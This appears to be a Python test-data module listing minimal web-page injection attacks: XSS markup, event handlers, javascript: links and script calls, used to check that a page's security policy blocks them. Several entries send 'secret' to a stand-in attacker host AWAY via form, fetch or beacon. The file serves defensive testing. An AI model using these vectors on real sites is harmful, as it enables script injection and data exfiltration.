"""Attacks on a page: what someone may want to get into it, each in its smallest form.

AWAY stands for another host's address. An attack that runs calls hit(), asks AWAY for something, sends the word
"secret", or paints what is red. What has the id "tap" waits for a tap.
"""

# By what they add to the text of a page.
MARKUP = {
    "inline script": "<script>hit()</script>",
    "inline module": "<script type=module>hit()</script>",
    "script with a nonce": "<script nonce=abc>hit()</script>",
    "script in a picture": "<svg><script>hit()</script></svg>",
    "script as data": "<script src='data:text/javascript,hit()'></script>",
    "remote script": "<script src='AWAYscript.js'></script>",
    "remote module": "<script type=module src='AWAYscript.js'></script>",
    "handler of an error": "<img src='data:,' onerror='hit()'>",
    "handler of a load": "<svg onload='hit()'></svg>",
    "handler of a tap": "<button id=tap onclick='hit()'>x</button>",
    "handler of focus": "<input onfocus='hit()' autofocus>",
    "javascript: link": "<a id=tap href='javascript:hit()'>x</a>",
    "javascript: link with a break": "<a id=tap href=' java&#10;script:hit()'>x</a>",
    "javascript: form": "<form action='javascript:hit()'><button id=tap>x</button></form>",
    "javascript: frame": "<iframe src='javascript:parent.hit()'></iframe>",
    "frame with a page in it": "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
    "remote frame": "<iframe src='AWAYframe'></iframe>",
    "remote object": "<object data='AWAYobject'></object>",
    "remote embed": "<embed src='AWAYembed'>",
    "remote image": "<img src='AWAYimage.png'>",
    "remote image among others": "<img srcset='AWAYimage.png 1x'>",
    "remote image in a picture": "<svg><image href='AWAYimage.png'/></svg>",
    "remote image button": "<input type=image src='AWAYimage.png'>",
    "remote poster": "<video poster='AWAYimage.png'></video>",
    "remote film": "<video src='AWAYfilm.mp4' preload=auto></video>",
    "remote sound": "<audio src='AWAYsound.mp3' preload=auto></audio>",
    "remote stylesheet": "<link rel=stylesheet href='AWAYsheet.css'>",
    "remote fetch ahead": "<link rel=prefetch href='AWAYnext'>",
    "remote preload": "<link rel=preload as=image href='AWAYimage.png'>",
    "remote module ahead": "<link rel=modulepreload href='AWAYscript.js'>",
    "style element": "<style>body { color: rgb(255, 0, 0) }</style>",
    "style attribute": "<p id=red style='color: rgb(255, 0, 0)'>x</p>",
    "style that imports": "<style>@import 'AWAYsheet.css';</style>",
    "style with a remote image": "<p style='background: url(AWAYimage.png)'>x</p>",
    "style with a remote font": "<style>@font-face { font-family: f; src: url(AWAYfont.woff2) } #red { font-family: f }</style><p id=red>x</p>",
    "form": "<form action='AWAYform'><input name=words value=secret><button id=tap>x</button></form>",
    "form by post": "<form method=post action='AWAYform'><input name=words value=secret><button id=tap>x</button></form>",
    "button that sends elsewhere": "<form><button id=tap formaction='AWAYform' name=words value=secret>x</button></form>",
    "form within the site": "<form action='/why-trust/'><input name=words value=secret><button id=tap>x</button></form>",
    "base": "<base href='AWAY'><img src='image.png'>",
    "link that tells of a tap": "<a id=tap href='#x' ping='AWAYping'>x</a>",
}
# By what a script does that was let in under our own address.
SCRIPTS = {
    "eval": "eval('hit()')",
    "function of words": "new Function('hit()')()",
    "timer of words": "setTimeout('hit()')",
    "handler set by name": "document.body.setAttribute('onclick', 'hit()'); document.body.click()",
    "inline script added": "document.body.append(Object.assign(document.createElement('script'), { textContent: 'hit()' }))",
    "handler as markup": "document.body.insertAdjacentHTML('beforeend', '<img src=data:, onerror=hit()>')",
    "remote script added": "document.body.append(Object.assign(document.createElement('script'), { src: 'AWAYscript.js' }))",
    "remote import": "import('AWAYscript.js').catch(() => null)",
    "imported blob": "import(URL.createObjectURL(new Blob(['hit()'], { type: 'text/javascript' }))).catch(() => null)",
    "worker of a blob": "new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' }))).onmessage = () => hit()",
    "remote fetch": "fetch('AWAYfetch').catch(() => null)",
    "remote fetch by post": "fetch('AWAYfetch', { method: 'POST', body: 'secret' }).catch(() => null)",
    "old request": "const old = new XMLHttpRequest(); old.open('GET', 'AWAYfetch'); old.send()",
    "beacon": "navigator.sendBeacon('AWAYbeacon', 'secret')",
    "stream of events": "new EventSource('AWAYevents')",
    "socket": "new WebSocket('AWAYsocket'.replace('http', 'ws'))",
    "remote image made": "new Image().src = 'AWAYimage.png'",
    "remote font made": "new FontFace('f', 'url(AWAYfont.woff2)').load().catch(() => null)",
    "frame made": "document.body.append(Object.assign(document.createElement('iframe'), { src: 'AWAYframe' }))",
    "style made": "document.body.append(Object.assign(document.createElement('style'), { textContent: 'body { color: rgb(255, 0, 0) }' }))",
}

# What a reader loses nothing by, but no policy in a page can forbid: publishing refuses it instead.
REFUSED = {
    "remote connection ahead": "<link rel=preconnect href='AWAY'>",
    "page that goes elsewhere": "<meta http-equiv=refresh content='0; url=AWAY'>",
    "link that tells where one was": "<a href='AWAY' referrerpolicy=unsafe-url>x</a>",
    "remote app description": "<link rel=manifest href='AWAYmanifest.json'>",
}
